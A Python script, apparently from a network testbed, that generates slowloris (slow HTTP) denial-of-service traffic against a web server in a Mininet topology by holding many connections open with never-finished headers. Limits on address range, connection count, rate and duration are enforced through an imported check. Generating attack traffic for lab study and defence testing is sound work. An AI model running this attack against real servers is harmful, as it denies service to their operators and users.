"""Slow HTTP (slowloris) for the Mininet topology: many connections held open with partial headers.

Opens --connections connections to the web server at --rate a second, sends each a request
line and one header, and then, every --interval seconds, one more header line, never the
blank line that ends the headers: the server keeps every connection (and its thread) waiting.
All are closed after --duration seconds.

    python scripts/traffic/slow_http.py --dst 10.0.0.2 --port 80 --connections 100 --rate 50 --duration 6

Bounded: topology addresses only, at most 500 connections, opened at most 200 a second, 120 s.
Prints one JSON line.
"""
from __future__ import annotations

import argparse
import json
import random
import socket
import sys
import time

from bounds import Pacer, check

MAX_CONNECTIONS, MAX_OPEN_RATE = 500, 200


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--dst", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--rate", type=float, required=True, help=f"connections opened/s, at most {MAX_OPEN_RATE}")
    parser.add_argument("--interval", type=float, default=2.0, help="seconds between trickled header lines")
    parser.add_argument("--duration", type=float, required=True)
    args = parser.parse_args()
    check(parser, dst=args.dst, rate=args.rate, duration=args.duration, max_rate=MAX_OPEN_RATE)
    if not 0 < args.connections <= MAX_CONNECTIONS:
        parser.error(f"connections must be in (0, {MAX_CONNECTIONS}]")
    rng = random.Random(11)
    started_at = time.time()
    pacer = Pacer(args.rate, args.duration, time.monotonic)
    held: list[tuple[socket.socket, float]] = []
    counts = {"opened": 0, "failed": 0, "dropped": 0, "header_lines": 0}
    while (due := pacer.due()) >= 0:
        now = time.monotonic()
        if due > 0 and counts["opened"] + counts["failed"] < args.connections:
            pacer.done += 1
            try:
                sock = socket.create_connection((args.dst, args.port), timeout=1)
                sock.sendall(f"GET /?{rng.randrange(10**6)} HTTP/1.1\r\nHost: {args.dst}\r\n"
                             f"User-Agent: Mozilla/5.0\r\n".encode())
                held.append((sock, now))
                counts["opened"] += 1
            except OSError:
                counts["failed"] += 1
            continue
        for i, (sock, last) in enumerate(held):
            if sock is not None and now - last >= args.interval:
                try:
                    sock.sendall(f"X-a{rng.randrange(5000)}: {rng.randrange(5000)}\r\n".encode())
                    counts["header_lines"] += 1
                    held[i] = (sock, now)
                except OSError:   # the server gave up on it (or a block stopped it): not reopened
                    sock.close()
                    held[i] = (None, now)
                    counts["dropped"] += 1
        time.sleep(0.01)
    for sock, _ in held:
        if sock is not None:
            sock.close()
    print(json.dumps(counts | {"seconds": round(time.time() - started_at, 3), "started_at": started_at}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
